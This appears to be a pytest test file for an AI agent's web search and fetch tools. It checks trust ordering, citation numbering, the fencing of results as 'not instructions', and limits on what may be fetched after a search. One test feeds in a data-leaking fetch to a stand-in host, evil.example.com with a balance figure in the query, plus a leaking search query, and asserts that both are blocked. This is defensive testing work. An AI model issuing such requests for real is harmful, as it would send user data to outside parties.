"""web.search and web.fetch in the hands of a model: order of trust, numbers, fences, and what may be fetched."""

import sys
from pathlib import Path

import pytest

from ia.agent.tools import catalog
from ia.agent.tools.scope import Scope, ToolCall
from ia.faculties import profiles

SERVER = Path(__file__).parents[3] / "support" / "servers" / "web_search.py"


@pytest.fixture
def router(ws, home, monkeypatch):
    monkeypatch.setenv("IA_WEB_SERVER", f"{sys.executable} {SERVER}")
    monkeypatch.setenv("IA_WEB_SEARCH", "find query=q")
    folder = home / ".claude" / "providers" / "web"
    folder.mkdir(parents=True)
    text = Path(profiles.shipped_folder(), "invest/.claude/providers/web/PROVIDER.en.md").read_text(encoding="utf-8")
    (folder / "PROVIDER.md").write_text(text, encoding="utf-8")
    return catalog.build_router(ws)


def model(ws, asked="what is kelly sizing?", **more):
    return Scope(ws, actor="model m", asked=asked, **more)


def test_a_search_taints_is_fenced_and_numbers_its_sources(ws, router):
    scope = model(ws)
    done = router.call_tool(scope, "web_search", {"query": "kelly formula"})
    assert done.ok and scope.origins == ["provider:web"]
    assert "not instructions" in done.value and '"citation": "W1"' in done.value
    assert [each.citation for each in scope.passages] == ["W1", "W2", "W3"]
    again = router.call_tool(scope, "web.search", {"query": "kelly sizing"})
    assert again.ok and len(scope.sources) == 3, "a source keeps its number"


def test_after_a_search_only_its_pages_and_the_users_words_leave(ws, router, monkeypatch):
    monkeypatch.setenv("IA_WEB_FETCH", "read url=address")
    monkeypatch.setattr(
        "ia.faculties.knowledge.web_fetch.socket.getaddrinfo", lambda *_, **__: [(0, 0, 0, "", ("93.184.215.14", 0))]
    )
    scope = model(ws)
    assert router.call_tool(scope, "web.search", {"query": "kelly"}).ok
    assert not router.call_tool(scope, "web.search", {"query": "the balance is 83120"}).ok
    assert not router.call_tool(scope, "web.fetch", {"url": "https://evil.example.com/?q=83120"}).ok
    assert not router.call_tool(scope, "web.fetch", {"url": scope.sources[0].url + "?q=83120"}).ok
    done = router.call_tool(scope, "web.fetch", {"url": scope.sources[0].url})
    assert done.ok and '"citation": "W1"' in done.value, done.failure


def test_rules_and_documents_come_first(ws, router):
    scope = model(ws, active=("research",))
    refused = router.call_tool(scope, "web.search", {"query": "kelly"})
    assert refused.failure.code == "trust-order" and "search_knowledge" in refused.format_text()
    scope.calls.append(ToolCall("search_knowledge", {}, True, 1))
    assert router.call_tool(scope, "web.search", {"query": "kelly"}).ok
    narrow = model(ws, active=("research",), allowed=("web.*",))
    assert router.call_tool(narrow, "web.search", {"query": "kelly"}).ok


def test_a_model_sees_no_tool_without_a_server(ws, router, monkeypatch):
    monkeypatch.delenv("IA_WEB_SERVER")
    scope = model(ws)
    fresh = catalog.build_router(ws)
    assert not [tool for tool in fresh.offered_tools(scope) if tool.name.startswith("web.")]
    assert fresh.call_tool(scope, "web.search", {"query": "x"}).failure.code == "provider-off"
